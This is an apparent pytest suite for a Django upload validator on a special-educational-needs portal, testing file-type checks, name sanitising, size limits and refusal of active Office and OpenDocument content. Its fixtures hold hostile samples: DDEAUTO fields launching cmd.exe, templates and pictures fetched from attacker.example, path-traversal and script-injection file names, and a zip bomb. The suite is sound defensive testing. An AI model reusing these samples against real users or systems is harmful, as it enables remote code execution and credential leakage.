"""What may be uploaded is decided by the content: PDF, JPG, PNG, DOCX and ODT pass; programs,
web pages, SVG, plain archives, macro documents, empty and oversize files, and files whose name
says another type, are refused with a message saying what is allowed. Names are made safe."""

from __future__ import annotations

import hashlib

import pytest

from ehcp.uploads.errors import UploadRefused
from ehcp.uploads.handlers import SizeLimitUploadHandler
from ehcp.uploads.validation import check_upload, display_name, size_label
from tests.send_portal.upload_samples import (
    EXE,
    GOOD,
    HTML,
    SVG,
    docx_bytes,
    image_bytes,
    pdf_bytes,
    upload,
    zip_bytes,
)

ALLOWED = "The selected file must be a PDF, JPG, PNG, DOCX or ODT"


@pytest.mark.parametrize("name", sorted(GOOD))
def test_each_allowed_type_is_accepted_with_the_type_found_in_its_content(name):
    mime, make = GOOD[name]
    content = make()
    # The browser's claim is ignored: it says text/plain for all of them.
    checked = check_upload(upload(name, content, "text/plain"))
    assert checked.content_type == mime
    assert checked.size == len(content)
    assert checked.sha256 == hashlib.sha256(content).hexdigest()
    assert checked.display_name == name.replace(".jpg", ".jpg")


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("report.pdf", EXE),  # a program renamed .pdf
        ("setup.exe", EXE),
        ("letter.pdf", HTML),  # a web page with script, claiming to be a PDF
        ("page.html", HTML),
        ("drawing.svg", SVG),
        ("drawing.png", SVG),
        ("archive.zip", zip_bytes()),
        ("archive.docx", zip_bytes()),  # a plain archive renamed .docx
        ("notes.txt", b"Just some text about my child."),
    ],
)
def test_anything_else_is_refused_whatever_it_is_called_and_claims_to_be(name, content):
    with pytest.raises(UploadRefused) as refused:
        check_upload(upload(name, content, "application/pdf"))
    assert refused.value.message == ALLOWED
    assert refused.value.field == "file"


@pytest.mark.parametrize(
    ("name", "content", "found"),
    [
        ("report.docx", pdf_bytes(), "PDF"),
        ("photo.png", image_bytes("JPEG"), "JPG"),
        ("scan.pdf", image_bytes("PNG"), "PNG"),
        ("letter.pdf", docx_bytes(), "Word document (DOCX)"),
    ],
)
def test_a_file_whose_name_says_another_type_than_its_content_is_refused(name, content, found):
    with pytest.raises(UploadRefused) as refused:
        check_upload(upload(name, content))
    extension = name.rsplit(".", 1)[1]
    assert refused.value.message.startswith(
        f"The selected file is a {found} but its name ends in .{extension}."
    )


def test_jpeg_may_be_called_jpeg_and_a_name_without_extension_gets_the_right_one():
    assert check_upload(upload("photo.JPEG", image_bytes("JPEG"))).display_name == "photo.jpg"
    assert check_upload(upload("scan", pdf_bytes())).display_name == "scan.pdf"


def test_a_word_document_with_macros_is_refused():
    with pytest.raises(UploadRefused, match="contains macros"):
        check_upload(upload("report.docx", docx_bytes(macros=True)))


def test_a_damaged_word_document_is_refused():
    content = docx_bytes()[:-60]  # the end of the archive (its directory) is missing
    with pytest.raises(UploadRefused, match="damaged"):
        check_upload(upload("report.docx", content))


def test_an_empty_file_is_refused():
    with pytest.raises(UploadRefused, match="^The selected file is empty$"):
        check_upload(upload("report.pdf", b""))


def test_no_file_is_refused():
    with pytest.raises(UploadRefused, match="^Select a file to upload$"):
        check_upload(None)


def test_a_file_over_the_limit_is_refused_and_the_limit_is_a_setting(settings):
    settings.SEND_PORTAL_UPLOAD_MAX_BYTES = 1000
    content = pdf_bytes() + b"%" + b"x" * 1000
    with pytest.raises(UploadRefused) as refused:
        check_upload(upload("report.pdf", content))
    assert refused.value.message == "The selected file must be smaller than 1000 bytes"
    settings.SEND_PORTAL_UPLOAD_MAX_BYTES = 10 * 1024 * 1024
    assert check_upload(upload("report.pdf", content)).size == len(content)


def test_sizes_are_written_as_people_read_them():
    assert size_label(10 * 1024 * 1024) == "10 MB"
    assert size_label(1536 * 1024) == "1.5 MB"
    assert size_label(2048) == "2 KB"
    assert size_label(1) == "1 byte"


@pytest.mark.parametrize(
    ("given", "shown"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("..\\..\\Windows\\system32\\report.pdf", "report.pdf"),
        ("C:\\Users\\me\\Desktop\\EP report (final).pdf", "EP_report_final.pdf"),
        ("report\x00\x1b[31m.pdf", "report31m.pdf"),
        ("..", "document.pdf"),
        ("", "document.pdf"),
        ('<b onclick="x()">report</b>.pdf', "b.pdf"),
        ("<img src=x onerror=alert(1)>.pdf", "img_srcx_onerroralert1.pdf"),
        ("Zoë's report.pdf", "Zoës_report.pdf"),
        ("a" * 300 + ".pdf", "a" * 96 + ".pdf"),
    ],
)
def test_names_lose_paths_control_characters_and_markup_and_are_capped(given, shown):
    assert display_name(given, "pdf") == shown


def test_the_upload_handler_stops_reading_a_file_once_it_passes_the_limit(rf):
    from django.core.files.uploadhandler import StopUpload

    request = rf.post("/")
    handler = SizeLimitUploadHandler(request, limit=100)
    handler.new_file("file", "big.pdf", "application/pdf", None)
    assert handler.receive_data_chunk(b"x" * 60, 0) == b"x" * 60
    with pytest.raises(StopUpload) as stopped:
        handler.receive_data_chunk(b"x" * 60, 60)
    assert stopped.value.connection_reset is False
    assert request.upload_too_large is True


def test_the_upload_handler_refuses_a_body_declared_far_beyond_the_limit(rf):
    from django.core.files.uploadhandler import StopUpload

    request = rf.post("/")
    handler = SizeLimitUploadHandler(request, limit=100)
    handler.handle_raw_input(None, {}, 50 * 1024 * 1024, b"x")
    with pytest.raises(StopUpload):
        handler.new_file("file", "big.pdf", "application/pdf", None)
    assert request.upload_too_large is True


# ---- Security review finding 5: active content in Word and OpenDocument files ----------------
# ECMA-376 Part 2 (Open Packaging Conventions): relationships with TargetMode="External" are
# resolved outside the package; Part 1 17.16 (fields): DDE, DDEAUTO, LINK, INCLUDETEXT and
# INCLUDEPICTURE run a program or fetch content. OpenDocument 1.3 Part 3: Basic/ and Scripts/.

from tests.send_portal.upload_samples import (  # noqa: E402
    docx_with,
    odt_with,
    relationships,
    word_document,
)

W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"

DDE_SPLIT_OVER_RUNS = word_document(
    "<w:p><w:r><w:fldChar w:fldCharType='begin'/></w:r>"
    "<w:r><w:instrText xml:space='preserve'> DDE</w:instrText></w:r>"
    "<w:r><w:instrText xml:space='preserve'>AUTO c:\\\\windows\\\\system32\\\\cmd.exe "
    '"/k calc.exe"</w:instrText></w:r>'
    "<w:r><w:fldChar w:fldCharType='separate'/></w:r><w:r><w:t>1</w:t></w:r>"
    "<w:r><w:fldChar w:fldCharType='end'/></w:r></w:p>"
)

ACTIVE_DOCUMENTS = {
    "an external attached template": (
        docx_with(
            {
                "word/settings.xml": f'<?xml version="1.0"?><w:settings xmlns:w="{W_NS}"/>',
                "word/_rels/settings.xml.rels": relationships(
                    ("attachedTemplate", "https://attacker.example/t.dotm", "External")
                ),
            }
        ),
        "links to content on another computer",
    ),
    "a picture fetched from a shared folder": (
        docx_with(
            {
                "word/_rels/document.xml.rels": relationships(
                    ("image", "file://attacker.example/share/a.png", "External")
                )
            }
        ),
        "links to content on another computer",
    ),
    "a hyperlink to a file share": (
        docx_with(
            {
                "word/_rels/document.xml.rels": relationships(
                    ("hyperlink", "\\\\attacker.example\\share", "External")
                )
            }
        ),
        "links to content on another computer",
    ),
    "a DDE field split over runs": (docx_with({}, document=DDE_SPLIT_OVER_RUNS), "fields"),
    "a DDEAUTO simple field": (
        docx_with(
            {},
            document=word_document(
                "<w:p><w:fldSimple w:instr=' DDEAUTO c:\\\\cmd.exe \"/c calc\"'>"
                "<w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>"
            ),
        ),
        "fields",
    ),
    "an INCLUDEPICTURE field in a header": (
        docx_with(
            {
                "word/header1.xml": f'<?xml version="1.0"?><w:hdr xmlns:w="{W_NS}"><w:p>'
                "<w:fldSimple w:instr='INCLUDEPICTURE \"http://attacker.example/x.png\"'/>"
                "</w:p></w:hdr>"
            }
        ),
        "fields",
    ),
    "an embedded OLE object": (
        docx_with({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + b"\x00" * 60}),
        "embedded objects or controls",
    ),
    "an ActiveX control": (
        docx_with(
            {
                "word/activeX/activeX1.xml": '<?xml version="1.0"?><ax:ocx xmlns:ax="urn:x"/>',
                "word/activeX/activeX1.bin": b"\x00" * 64,
            }
        ),
        "embedded objects or controls",
    ),
    "vbaData.xml": (
        docx_with({"word/vbaData.xml": '<?xml version="1.0"?><wne:vbaSuppData xmlns:wne="x"/>'}),
        "contains macros",
    ),
    "a macro-enabled content type": (
        docx_with(
            {
                "[Content_Types].xml": '<?xml version="1.0"?><Types xmlns="http://schemas.'
                'openxmlformats.org/package/2006/content-types"><Override PartName="/word/'
                'document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main'
                '+xml"/></Types>'
            }
        ),
        "contains macros",
    ),
}


@pytest.mark.parametrize("what", sorted(ACTIVE_DOCUMENTS))
def test_a_word_document_with_active_or_external_content_is_refused(what):
    content, message = ACTIVE_DOCUMENTS[what]
    with pytest.raises(UploadRefused, match=message):
        check_upload(upload("report.docx", content))


ACTIVE_OPENDOCUMENTS = [
    ("Scripts/", odt_with(extra={"Scripts/python/run.py": "import os"}), "contains macros"),
    ("Basic/", odt_with(extra={"Basic/Standard/Module1.xml": "<x/>"}), "contains macros"),
    (
        "an event listener",
        odt_with(
            "<office:event-listeners><script:event-listener script:event-name='dom:load' "
            "xlink:href='vnd.sun.star.script:Standard.Module1.Run'/>"
            "</office:event-listeners><text:p>Hi</text:p>"
        ),
        "contains macros",
    ),
    (
        "a DDE connection",
        odt_with(
            "<text:dde-connection-decls><text:dde-connection-decl/></text:dde-connection-decls>"
        ),
        "fields",
    ),
    (
        "a linked picture",
        odt_with(
            "<draw:frame><draw:image xlink:href='http://attacker.example/a.png'/></draw:frame>"
        ),
        "links to content on another computer",
    ),
    ("an OLE object", odt_with(extra={"Object 1": b"\xd0\xcf\x11\xe0"}), "embedded objects"),
]


@pytest.mark.parametrize(
    "what,content,message", ACTIVE_OPENDOCUMENTS, ids=[row[0] for row in ACTIVE_OPENDOCUMENTS]
)
def test_an_opendocument_file_with_active_or_external_content_is_refused(what, content, message):
    with pytest.raises(UploadRefused, match=message):
        check_upload(upload("views.odt", content))


def test_a_word_document_that_is_a_zip_bomb_is_refused():
    """About 50 MB of zeros squeezed into about 50 KB: refused from the archive's directory,
    before anything is decompressed."""
    content = docx_with({"word/media/image1.png": b"\x00" * (50 * 1024 * 1024)})
    assert len(content) < 200 * 1024
    with pytest.raises(UploadRefused, match="expands to more than"):
        check_upload(upload("report.docx", content))


def test_a_word_document_expanding_past_the_limit_is_refused(settings):
    settings.SEND_PORTAL_UPLOAD_MAX_EXPANDED_BYTES = 10 * 1024
    import os

    content = docx_with({"word/media/image1.png": os.urandom(20 * 1024)})
    with pytest.raises(UploadRefused, match="expands to more than 10 KB"):
        check_upload(upload("report.docx", content))


def test_ordinary_word_and_opendocument_files_with_web_links_are_accepted():
    word = docx_with(
        {
            "word/_rels/document.xml.rels": relationships(
                (
                    "hyperlink",
                    "https://www.gov.uk/children-with-special-educational-needs",
                    "External",
                ),
                ("styles", "styles.xml", ""),
            ),
            "word/styles.xml": f'<?xml version="1.0"?><w:styles xmlns:w="{W_NS}"/>',
        },
        document=word_document(
            "<w:p><w:fldSimple w:instr=' PAGE '><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>"
        ),
    )
    assert check_upload(upload("report.docx", word)).extension == "docx"
    odt = odt_with("<text:p><text:a xlink:href='https://www.gov.uk/'>GOV.UK</text:a></text:p>")
    assert check_upload(upload("views.odt", odt)).extension == "odt"
